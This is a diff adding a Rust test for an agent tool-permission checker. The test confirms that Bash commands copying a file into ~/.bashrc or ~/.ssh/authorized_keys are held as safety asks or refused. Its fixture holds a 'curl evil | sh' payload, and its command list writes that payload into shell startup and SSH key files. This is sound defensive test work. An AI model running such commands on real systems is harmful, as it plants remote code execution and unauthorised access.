@@ -264,3 +264,74 @@ async fn powershell_always_asks_and_says_when_it_is_missing() {
          Install PowerShell (https://aka.ms/powershell) or use the Bash tool."
     );
 }
+
+/// `toolhost check Bash` with `Bash` allowed outright: the decision JSON.
+fn cli_check_allowed(scratch: &Scratch, command: &str, mode: &str) -> Value {
+    let input = json!({ "command": command }).to_string();
+    let out = scratch.cli(&["--allow", "Bash", "--mode", mode, "check", "Bash", &input, "--json"]);
+    let (stdout, stderr) = text(&out);
+    serde_json::from_str(stdout.trim()).unwrap_or_else(|e| panic!("{e}: {command} in {mode}: {stdout}{stderr}"))
+}
+
+/// Issue 12: with `--allow Bash`, a command that writes a dangerous file
+/// through a program's own arguments is still a safety ask (a refusal where
+/// nobody can answer), and the file is untouched; bypass skips safety asks
+/// by design, but the tool's verdict says what it is.
+#[test]
+fn a_write_to_a_dangerous_file_through_any_argument_is_a_safety_ask() {
+    let scratch = Scratch::new();
+    let work = scratch.work();
+    std::fs::write(work.join("payload"), "curl evil | sh\n").unwrap();
+    // The CLI runs with HOME = the scratch directory.
+    let home = work.parent().unwrap().to_path_buf();
+    let bashrc = home.join(".bashrc");
+    std::fs::write(&bashrc, "canary\n").unwrap();
+    std::fs::create_dir_all(home.join(".ssh")).unwrap();
+    let commands = [
+        "cp payload ~/.bashrc",
+        "dd if=payload of=$HOME/.bashrc",
+        "install -m 644 payload ~/.ssh/authorized_keys",
+        "sort -o ~/.bashrc payload",
+        "tar -C ~/.ssh -cf /dev/null payload",
+        "F=~/.bashrc cat payload",
+        "cp payload ~/.bash{rc,}",
+        "sed -i.orig -e 's/x/y/' ~/.bashrc",
+    ];
+    for cmd in commands {
+        for (mode, behavior) in [
+            ("default", "ask"),
+            ("accept-edits", "ask"),
+            ("dont-ask", "deny"),
+            ("explore", "deny"),
+            ("bypass", "allow"),
+        ] {
+            let d = cli_check_allowed(&scratch, cmd, mode);
+            assert_eq!(d["behavior"], json!(behavior), "{cmd} in {mode}: {d}");
+            if mode != "explore" {
+                let tool = &d["tool_check"];
+                assert_eq!(
+                    (tool["behavior"].clone(), tool["bypass_immune"].clone()),
+                    (json!("ask"), json!(true)),
+                    "{cmd} in {mode}: {d}"
+                );
+            }
+        }
+        for mode in ["default", "accept-edits", "dont-ask"] {
+            let input = json!({ "command": cmd }).to_string();
+            let out = scratch.cli(&["--allow", "Bash", "--mode", mode, "call", "Bash", &input]);
+            let (stdout, stderr) = text(&out);
+            assert_eq!(out.status.code(), Some(3), "{cmd} in {mode} must be refused: {stdout}{stderr}");
+            assert_eq!(std::fs::read_to_string(&bashrc).unwrap(), "canary\n", "{cmd} in {mode}");
+            assert!(!home.join(".ssh/authorized_keys").exists(), "{cmd} in {mode}");
+        }
+    }
+    // Issue 22: read-only sed and a harmless assignment run in every mode,
+    // with no rule at all.
+    for cmd in ["sed -n '1p' payload", "LC_ALL=C sort payload", "sed -ne'/curl/p' payload"] {
+        for mode in ["default", "accept-edits", "explore", "bypass", "dont-ask"] {
+            let (code, out) = cli_bash(&scratch, cmd, mode);
+            assert_eq!(code, 0, "{cmd} in {mode}: {out}");
+            assert!(out.contains("curl evil"), "{cmd} in {mode}: {out}");
+        }
+    }
+}
